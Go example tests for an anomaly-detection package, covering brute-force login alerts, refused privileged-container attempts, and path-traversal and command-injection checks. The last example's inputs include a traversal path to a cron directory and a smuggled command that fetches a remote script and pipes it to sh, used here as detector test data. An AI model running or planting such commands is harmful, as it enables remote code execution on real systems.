package anomaly_test

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"

	"go.cordon.dev/cordon/guard/anomaly"
)

// A login behind a proxy of one's own: the tenth refusal of one address is an alert.
func Example() {
	monitor, err := anomaly.New(anomaly.Options{Handler: func(a anomaly.Alert) {
		fmt.Println(a.Severity, a.Type, a.Message)
	}})
	if err != nil {
		panic(err)
	}
	login := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("X-API-Key") != "the right one" {
			http.Error(w, "who are you?", http.StatusUnauthorized)
		}
	})
	watched := monitor.Middleware(anomaly.HTTPOptions{TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}})(login)

	for range 100 {
		r := httptest.NewRequest(http.MethodGet, "/login", nil)
		r.RemoteAddr = "10.0.0.1:4711"
		r.Header.Set("X-Forwarded-For", "203.0.113.9")
		watched.ServeHTTP(httptest.NewRecorder(), r)
	}
	monitor.Close()
	fmt.Println(monitor.Stats().FailedAuth, "failed logins")
	// Output:
	// high brute_force 10+ failed auth attempts from 203.0.113.9
	// 100 failed logins
}

// What a program refuses, it records.
func ExampleMonitor_RecordPrivilegedContainerAttempt() {
	monitor, err := anomaly.New(anomaly.Options{Handler: func(a anomaly.Alert) { fmt.Println(a.Severity, a.Message) }})
	if err != nil {
		panic(err)
	}
	create := func(user string, privileged bool) error {
		if privileged {
			monitor.RecordPrivilegedContainerAttempt(user)
			return errors.New("privileged containers are not allowed")
		}
		return nil
	}
	refused := create("anna", true)
	monitor.Close() // waits until the handler has been told
	fmt.Println(refused)
	// Output:
	// critical Attempted to create privileged container by user anna
	// privileged containers are not allowed
}

// Names that come from outside are looked at before they become a path or an argument.
func ExampleIsPathTraversal() {
	for _, name := range []string{"nightly-build", "../../etc/cron.d/x", "a; curl http://192.0.2.1/x | sh"} {
		fmt.Println(anomaly.IsPathTraversal(name), anomaly.IsCommandInjection(name))
	}
	// Output:
	// false false
	// true false
	// false true
}
